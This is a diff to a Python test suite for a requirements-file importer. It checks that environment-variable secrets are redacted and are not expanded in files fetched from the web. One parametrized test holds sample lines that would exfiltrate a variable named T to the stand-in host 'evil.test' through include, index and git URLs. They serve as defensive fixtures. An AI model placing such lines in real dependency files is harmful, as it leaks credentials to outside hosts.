@@ -140,7 +140,7 @@ def test_a_path_that_no_system_has_is_told() -> None:
 
     imported = import_files(input_files(["requirements.txt"]), read)
     assert messages(imported, Severity.ERROR) == [
-        "requirements.txt:1: a\0b cannot be read: embedded null byte",
+        "requirements.txt:1: a\0b cannot be read: no file can have this name",
         (
             "requirements.txt:2: a\0b is not a package: no wheel, sdist, pyproject.toml, setup.py"
             " or setup.cfg"
@@ -245,6 +245,59 @@ def test_variables_in_includes_are_those_of_the_environment(assembled: Assembled
     ]
 
 
+def test_the_value_of_a_variable_is_not_shown(assembled: Assembled) -> None:
+    included = ("${T}/a.txt", "${T}/none.txt", "${U}", "https://h/${T}", "../${T}")
+    files = {
+        "requirements.txt": "".join(f"-r {name}\n" for name in included),
+        "s3cret/a.txt": "six ==\n-r b.txt\n",
+        "s3cret/b.txt": "idna\n-f ${T}\n",
+        "https://h/s3cret": "-r c.txt\n",
+    }
+    names: list[str] = []
+
+    def fetch(url: str, name: str) -> bytes:
+        names.append(name)
+        return files[url].encode() if url in files else b""
+
+    environ = {"T": "s3cret", "U": "https://me:s3cret@h/s3cret/r.txt"}
+    imported = assembled(files, fetch=fetch, environ=environ, allow_outside=True)
+    assert texts(imported.dependencies) == ["idna"]
+    assert sorted(names) == ["${U}", "https://h/${T}", "https://h/c.txt"]
+    assert messages(imported)[:2] == [
+        "requirements.txt:2: included file ${T}/none.txt not found",
+        "requirements.txt:5: included file ../${T} not found",
+    ]
+    assert "s3cret" not in repr(imported)
+
+
+def test_a_file_that_a_variable_leads_to_is_read_once(assembled: Assembled) -> None:
+    files = {"requirements.txt": "-r ${X}.txt\n-r base.txt\n", "base.txt": "six\n"}
+    imported = assembled(files, environ={"X": "base"})
+    assert [(file.path, file.lines) for file in imported.files] == [
+        ("requirements.txt", 2),
+        ("${X}.txt", 1),
+    ]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *("-r https://evil.test/${T}", "-i https://${T}@evil.test/simple", "-f ${T}"),
+        *("x @ git+https://${T}@evil.test/r.git", "-e git+https://me:${T}@evil.test/r#egg=x"),
+    ],
+)
+def test_a_file_from_the_web_gets_no_variable(assembled: Assembled, line: str) -> None:
+    files = {
+        "requirements.txt": "-r https://h/a.txt\n",
+        "https://h/a.txt": f"six\n{line}  # ${{T}}\n",
+    }
+    imported = assembled(files, environ={"T": "s3cret"}, allow_outside=True)
+    assert messages(imported) == [
+        f"https://h/a.txt:2: `{redacted(line)}`: variables are not expanded in a file from the web"
+    ]
+    assert (imported.credentials, imported.indexes) == ({}, ())
+
+
 def test_a_file_from_the_web_names_none_of_this_machine(assembled: Assembled) -> None:
     files = {
         "requirements.txt": "-r https://h.example/a.txt\n",
@@ -270,7 +323,7 @@ def test_a_url_with_half_a_password_in_its_host_is_not_fetched(assembled: Assemb
 
 
 def test_no_network_is_no_fault_of_the_line(assembled: Assembled) -> None:
-    def unplugged(_url: str) -> bytes:
+    def unplugged(_url: str, _name: str) -> bytes:
         raise TimeoutError("no answer within 10 seconds")
 
     imported = assembled(OUTSIDE, unplugged, allow_outside=True, keep_going=True)
